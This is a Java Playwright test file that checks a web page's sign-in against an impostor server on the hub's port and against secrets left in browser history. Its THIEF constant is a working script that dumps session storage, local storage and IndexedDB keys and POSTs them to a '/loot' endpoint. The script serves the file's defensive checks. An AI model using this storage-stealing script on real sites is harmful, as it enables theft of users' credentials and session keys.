package dev.midcourse.proof.page;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;

import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeSet;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.assertj.core.api.Assertions;
import org.awaitility.Awaitility;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attacks on the sign-in of the page: a stranger who listens at the port of the hub while the hub
 * is down, and a program that reads the history of the browser.
 */
@Tag("browser")
class StrangerAtThePortTest {
  private static final Duration TIMEOUT = Duration.ofMinutes(2);
  private static final Pattern SECRET_IN_LINK = Pattern.compile("#(code|token)=([A-Za-z0-9_-]+)");

  /** A page of the stranger: reads everything that the browser keeps for this address. */
  private static final String THIEF =
      """
      <!doctype html><title>Midcourse</title><script>
      const found = { session: { ...sessionStorage }, local: { ...localStorage }, keys: [] };
      const send = () => fetch("/loot", { method: "POST", body: JSON.stringify(found) });
      const request = indexedDB.open("midcourse");
      request.onerror = send;
      request.onsuccess = () => {
        const database = request.result;
        if (!database.objectStoreNames.contains("sessions")) return send();
        const all = database.transaction("sessions").objectStore("sessions").getAll();
        all.onerror = send;
        all.onsuccess = async () => {
          for (const record of all.result) {
            for (const format of ["jwk", "pkcs8", "raw"]) {
              const read = await crypto.subtle.exportKey(format, record.key).then(() => "read", (error) => error.name);
              found.keys.push({ id: record.id, format, read });
            }
          }
          send();
        };
      };
      </script>
      """;

  @RegisterExtension static final PageFixture fixture = new PageFixture();

  /**
   * Seen to succeed when the page sent a lasting token with each request, and to fail when the page
   * takes any answer to its challenge as the proof of the hub.
   */
  @Test
  void an_open_tab_sends_a_stranger_at_the_port_no_credential_and_no_text() throws Exception {
    Page page = fixture.at("/");
    assertThat(page.locator("#connection")).hasText("Connected");
    fixture.hub().kill();
    assertThat(page.locator("#offline")).isVisible();
    List<String> received;
    try (ImpostorServer stranger =
        ImpostorServer.at(
            fixture.hub().port(),
            _ ->
                """
                {"hub_nonce":"AAAAAAAAAAAAAAAAAAAAAA","state":"active","proof":"AAAA","access_token":"page.x"}
                """)) {
      Awaitility.await().atMost(TIMEOUT).until(() -> stranger.requests().size() >= 4);
      assertThat(page.locator("#offline")).containsText("Another program answers at this address");
      fixture.browsing().picture(page, "stranger");
      received = stranger.requests();
    }
    for (String request : received) {
      Assertions.assertThat(request.toLowerCase(Locale.ROOT)).doesNotContain("authorization:");
      Assertions.assertThat(request).matches("(?s)POST /api/v1/sessions/[a-z0-9]+/challenge .*");
    }
    fixture.hub().startAgain();
    assertThat(page.locator("#offline")).isHidden();
    assertThat(page.locator("#connection")).hasText("Connected");
  }

  /** Seen to succeed when the page kept a token in the storage of the tab. */
  @Test
  void a_reload_from_a_stranger_at_the_port_reads_no_secret() throws Exception {
    Page page = fixture.at("/");
    assertThat(page.locator("#connection")).hasText("Connected");
    String token = fixture.hub().token();
    fixture.hub().kill();
    String loot;
    try (ImpostorServer stranger = ImpostorServer.at(fixture.hub().port(), _ -> THIEF)) {
      page.reload();
      Awaitility.await()
          .atMost(TIMEOUT)
          .until(() -> stranger.requests().stream().anyMatch(ask -> ask.startsWith("POST /loot")));
      loot =
          stranger.requests().stream()
              .filter(ask -> ask.startsWith("POST /loot"))
              .findFirst()
              .orElseThrow();
    }
    Assertions.assertThat(loot)
        .doesNotContain(token)
        .contains("\"read\":\"InvalidAccessError\"")
        .doesNotContain("\"read\":\"read\"");
    Assertions.assertThat(fixture.browsing().takeComplaints())
        .as("the script of the stranger, which the browser ran")
        .isNotEmpty();
    fixture.hub().startAgain();
    page.navigate(fixture.hub().url("/"));
    assertThat(page.locator("#connection")).hasText("Connected");
  }

  /**
   * The browser writes the link into its history, whatever the page does. Seen to succeed when the
   * link had the token: a run was started with it.
   */
  @Test
  void the_history_of_a_browser_has_nothing_that_starts_a_run(@TempDir Path profile)
      throws Exception {
    try (BrowserContext browser = fixture.browsing().withProfile(profile)) {
      Page page = fixture.browsing().tab(browser);
      page.navigate(fixture.hub().link("/"));
      assertThat(page.locator("#connection")).hasText("Connected");
    }
    String history = text(profile.resolve("Default/History"));
    Assertions.assertThat(history).as("the history was written").contains(fixture.hub().url("/"));
    TreeSet<String> secrets = new TreeSet<>();
    try (Stream<Path> files = Files.walk(profile)) {
      for (Path file : files.filter(Files::isRegularFile).toList()) {
        String text = text(file);
        Assertions.assertThat(text).as(file.toString()).doesNotContain(fixture.hub().token());
        Matcher links = SECRET_IN_LINK.matcher(text);
        while (links.find()) {
          secrets.add(links.group(2));
        }
      }
    }
    Assertions.assertThat(secrets).as("links in the history").isNotEmpty();
    for (String secret : secrets) {
      Assertions.assertThat(fixture.hub().statusOfRunWith(secret)).isEqualTo(401);
      Assertions.assertThat(
              fixture.hub().post("/sign-in-codes/discard", Map.of("code", secret)).toString())
          .isEqualTo("{\"discarded\":false}");
    }
  }

  private static String text(Path file) throws IOException {
    return new String(Files.readAllBytes(file), StandardCharsets.ISO_8859_1);
  }
}
